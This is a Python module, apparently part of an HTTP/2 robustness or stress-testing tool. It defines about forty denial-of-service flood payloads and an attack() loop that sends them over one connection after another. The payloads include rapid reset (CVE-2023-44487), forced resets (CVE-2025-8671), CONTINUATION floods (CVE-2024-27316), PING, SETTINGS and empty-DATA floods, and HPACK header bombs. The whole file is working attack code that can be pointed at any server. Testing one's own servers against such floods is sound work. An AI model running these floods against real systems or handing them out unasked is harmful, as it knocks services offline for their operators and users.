# SPDX-License-Identifier: Apache-2.0
"""Cheap ways to keep an HTTP/2 server busy. Each entry makes the bytes for stream `n` (1, 3, 5, …) of connection `c`;
they are sent for as long as the server accepts them."""

from . import frames as h2
from .frames import END_HEADERS, END_STREAM, PADDED, PRIORITIZED, block, frame, indexed, indexed_literal, literal, setting, word


def _post(c, n, more: bytes) -> bytes:
    return c.headers(n, c.fields("POST"), end=False) + more


def _first(c, n, more: bytes) -> bytes:
    """Sends more frames for the first stream, which is opened once."""
    return (c.headers(1, c.fields("POST"), end=False) if n == 1 else b"") + more


def _bomb(c, n, fields: bytes, flags=END_HEADERS | END_STREAM) -> bytes:
    return frame(h2.HEADERS, flags, n, block(c.fields()) + fields)


def _unread(c, n, window: int, more: bytes = b"") -> bytes:
    """A request for content, by a client that takes `window` bytes of each response."""
    settings = frame(h2.SETTINGS, 0, 0, setting(4, window)) if n == 1 else b""
    return settings + c.headers(n, c.fields(path="/1k", fields=[("accept", "text/html")])) + more


def _cancelled(n: int) -> bytes:
    """The response to the request of twenty streams before is ready by now."""
    return frame(h2.RST_STREAM, 0, n - 40, word(h2.CANCEL)) if n > 40 else b""


FLOODS = {
    # Requests whose responses are not taken.
    "no window": lambda c, n: _unread(c, n, 0),
    "no window, cancelled": lambda c, n: _unread(c, n, 0, _cancelled(n)),
    "a window of a byte": lambda c, n: _unread(c, n, 1),
    "no window of the connection": lambda c, n: _unread(c, n, 65_535),
    # Requests that the client cancels, or makes the server cancel.
    "rapid reset (CVE-2023-44487)": lambda c, n: c.headers(n) + frame(h2.RST_STREAM, 0, n, word(h2.CANCEL)),
    "rapid reset of uploads": lambda c, n: _post(c, n, frame(h2.RST_STREAM, 0, n, word(h2.CANCEL))),
    "made to reset by a window too large (CVE-2025-8671)":
        lambda c, n: _post(c, n, frame(h2.WINDOW_UPDATE, 0, n, word(h2.GREATEST_WINDOW))),
    "made to reset by an increment of 0": lambda c, n: _post(c, n, frame(h2.WINDOW_UPDATE, 0, n, word(0))),
    "made to reset by DATA after the end": lambda c, n: c.headers(n) + frame(h2.DATA, 0, n, b"x"),
    "made to reset by HEADERS after the end": lambda c, n: c.headers(n) + c.headers(n),
    "made to reset by PRIORITY of a wrong size": lambda c, n: _post(c, n, frame(h2.PRIORITY, 0, n, bytes(4))),
    "made to reset by content that is too long": lambda c, n: c.headers(
        n, c.fields("POST", fields=[("content-length", "1")]), end=False) + frame(h2.DATA, END_STREAM, n, b"xx"),
    "malformed requests": lambda c, n: c.headers(n, [(":method", "GET")]),
    "requests beyond the limit": lambda c, n: c.headers(n, c.fields("POST"), end=False),
    "requests that are refused": lambda c, n: c.headers(n, c.fields("CONNECT")) + frame(
        h2.RST_STREAM, 0, n, word(h2.CANCEL)),
    # Frames that cost more than they carry.
    "SETTINGS (CVE-2019-9515)": lambda c, n: frame(h2.SETTINGS, 0, 0, setting(4, n)),
    "empty SETTINGS": lambda c, n: frame(h2.SETTINGS),
    "acknowledgements": lambda c, n: frame(h2.SETTINGS, h2.ACK),
    "large SETTINGS": lambda c, n: frame(h2.SETTINGS, 0, 0, setting(4, n) * 2000),
    "PING (CVE-2019-9512)": lambda c, n: frame(h2.PING, 0, 0, bytes(8)),
    "answers to PING": lambda c, n: frame(h2.PING, h2.ACK, 0, bytes(8)) * 20,
    "empty DATA (CVE-2019-9518)": lambda c, n: _first(c, n, frame(h2.DATA, 0, 1)),
    "DATA of padding alone": lambda c, n: _first(c, n, frame(h2.DATA, PADDED, 1, b"\x00")),
    "WINDOW_UPDATE": lambda c, n: frame(h2.WINDOW_UPDATE, 0, 0, word(1)),
    "WINDOW_UPDATE of a stream": lambda c, n: _first(c, n, frame(h2.WINDOW_UPDATE, 0, 1, word(1))),
    "WINDOW_UPDATE of a closed stream": lambda c, n: (
        (c.headers(1) + frame(h2.RST_STREAM, 0, 1, word(8)) if n == 1 else b"")
        + frame(h2.WINDOW_UPDATE, 0, 1, word(1)) * 4),
    "RST_STREAM of a closed stream": lambda c, n: (
        (c.headers(1) if n == 1 else b"") + frame(h2.RST_STREAM, 0, 1, word(8)) * 4),
    "PRIORITY (CVE-2019-9513)": lambda c, n: frame(h2.PRIORITY, 0, n, word(max(0, n - 2)) + b"\x10"),
    "unknown frames": lambda c, n: frame(0xbb, 0, 0, b"x"),
    # Without a request, the first one ends the connection.
    "GOAWAY": lambda c, n: _first(c, n, frame(h2.GOAWAY, 0, 0, bytes(8))),
    # Header sections.
    "CONTINUATION (CVE-2024-27316)": lambda c, n: (
        c.headers(n, flags=0) + frame(h2.CONTINUATION, 0, n, literal("a", "b")) * 500),
    "empty CONTINUATION": lambda c, n: c.headers(n, flags=0) + frame(h2.CONTINUATION, 0, n) * 500,
    "CONTINUATION of a byte": lambda c, n: c.headers(n, flags=0) + b"".join(
        frame(h2.CONTINUATION, 0, n, bytes([byte])) for byte in literal("a", "b" * 200)),
    "sections in many frames": lambda c, n: c.headers(n, flags=0) + frame(h2.CONTINUATION, 0, n) * 7 + frame(
        h2.CONTINUATION, END_HEADERS, n) + frame(h2.RST_STREAM, 0, n, word(8)),
    "names of length 0 (CVE-2019-9516)": lambda c, n: _bomb(c, n, literal("", "") * 300),
    "a header bomb": lambda c, n: _bomb(c, n, indexed_literal("x", "a" * 3900) + indexed(62) * 5000),
    "small header bombs": lambda c, n: _bomb(
        c, n, (indexed_literal("x", "a" * 3900) if n == 1 else b"") + indexed(62) * 9) + frame(
            h2.RST_STREAM, 0, n, word(h2.CANCEL)),
    "header bombs in trailers": lambda c, n: _post(c, n, frame(
        h2.HEADERS, 5, n, indexed_literal("x", "a" * 3900) + indexed(62) * 500)),
    "cookie crumbs": lambda c, n: _bomb(c, n, indexed_literal("cookie", "a=b") + indexed(62) * 4000),
    "few cookie crumbs": lambda c, n: _bomb(
        c, n, (indexed_literal("cookie", "a=" + "b" * 100) if n == 1 else b"") + indexed(62) * 190) + frame(
            h2.RST_STREAM, 0, n, word(h2.CANCEL)),
    "table sizes": lambda c, n: frame(h2.HEADERS, 5, n, b"\x20\x3f\xe1\x1f" * 1000 + block(c.fields())) + frame(
        h2.RST_STREAM, 0, n, word(h2.CANCEL)),
    "priorities in heads": lambda c, n: frame(
        h2.HEADERS, 5 | PRIORITIZED, n, word(max(0, n - 2)) + b"\x10" + block(c.fields())) + frame(
            h2.RST_STREAM, 0, n, word(h2.CANCEL)),
}


def attack(connect, make, stopped) -> list:
    """Floods one connection after another until `stopped()`; returns their GOAWAY codes."""
    ended = []
    while not stopped():
        with connect() as c:
            c.updates_windows = False
            number = 1
            while not stopped() and number < 400_000:
                piece = b"".join(make(c, n) for n in range(number, number + 40, 2))
                number += 40
                if not c.send_quietly(piece):
                    break
            else:
                if stopped():
                    return ended
            try:
                c.read_all()
            except TimeoutError:
                ended.append("open")
                continue
            ended.append(c.goaway)
    return ended
